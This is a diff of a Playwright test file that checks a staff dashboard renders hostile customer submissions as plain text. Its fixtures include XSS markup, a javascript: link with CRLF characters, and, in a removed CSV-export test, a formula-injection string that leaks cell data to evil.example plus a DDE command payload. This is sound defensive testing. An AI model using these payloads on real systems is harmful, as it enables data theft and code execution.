@@ -1,17 +1,12 @@
-import { readFile } from "node:fs/promises";
 import type { Page } from "@playwright/test";
-import papa from "papaparse";
-import { deskRows, findAtDesk, openSheet, storeRequest } from "../support/desk.ts";
-import { storeQuote } from "../support/quotes.ts";
+import { deskRows, findAtDesk, storeRequest } from "../support/desk.ts";
 import { e2eRun } from "../support/run.ts";
 import { backend, expect, test } from "../support/test.ts";
 
-// What somebody sends past the website, waiting for staff to look at it: markup, scripts, formulas and
-// addresses that are commands. It must be read as what it is, in the dashboard, on the printed sheet, in the
-// message and in the CSV.
+// What somebody sends past the website, waiting for staff to look at it: markup, scripts and addresses that are commands. It
+// must be read as what it is. In a file: tests/desk/export/export-button.test.tsx.
 
 const MARKUP = `"><img src=x onerror="window.hacked=1"><script>window.hacked=1</script>`;
-const FORMULA = `=HYPERLINK("http://evil.example?"&A1)`;
 const PLACE = `javascript:window.hacked=1//&destination=evil?q=%0d%0a <b>Houston</b>`;
 const LINES = `Description: ${MARKUP}\n=1+1\n+1 (900) 555-0100\n@SUM(A1)\n-2\n{{constructor}}`;
 
@@ -80,41 +75,4 @@ test("a hostile request is read as text, its links lead where they say", async (
   await row.getByRole("button", { name: /^Process/ }).click();
   await expect(page.getByRole("dialog")).toContainText("window.hacked=1");
   await expectInert(page, foreign);
-});
-
-test("a hostile quote stays text on its card, on the printed sheet and in the CSV", {
-  tag: "@long",
-}, async ({ page, admin }) => {
-  const foreign = watchForeignRequests(page);
-  const word = backend.uniqueWord().slice(0, 20);
-  const name = `${FORMULA} ${word}`;
-  await storeQuote({
-    name,
-    event_address: PLACE,
-    quote_amount: 900,
-    quote_notes: `${MARKUP}\n=cmd|' /C calc'!A0`,
-    additional_info: LINES,
-  });
-  await admin.signIn(page);
-  await page.getByRole("tab", { name: "Processed quotes" }).click();
-  await findAtDesk(page, word);
-  const card = deskRows(page);
-  await card.locator("[data-desk-action=open]").first().click();
-  await expect(card).toContainText(MARKUP);
-  await expectInert(page, foreign);
-
-  const downloading = page.waitForEvent("download");
-  await page.getByRole("button", { name: "Export CSV" }).click();
-  const download = await downloading;
-  expect(download.suggestedFilename()).toMatch(/^quotes-\d{4}-\d{2}-\d{2}\.csv$/);
-  const csv = await readFile(await download.path(), "utf8");
-  const { data } = papa.parse<string[]>(csv.replace(/^\uFEFF/, ""), { skipEmptyLines: true });
-  const cells = data.flat();
-  expect(cells).toContain(`'${name}`);
-  for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
-
-  const sheet = await openSheet(card);
-  await expect(sheet.getByRole("main")).toContainText(MARKUP);
-  await expect(sheet.getByRole("main")).toContainText(name);
-  await expectInert(sheet, foreign);
 });
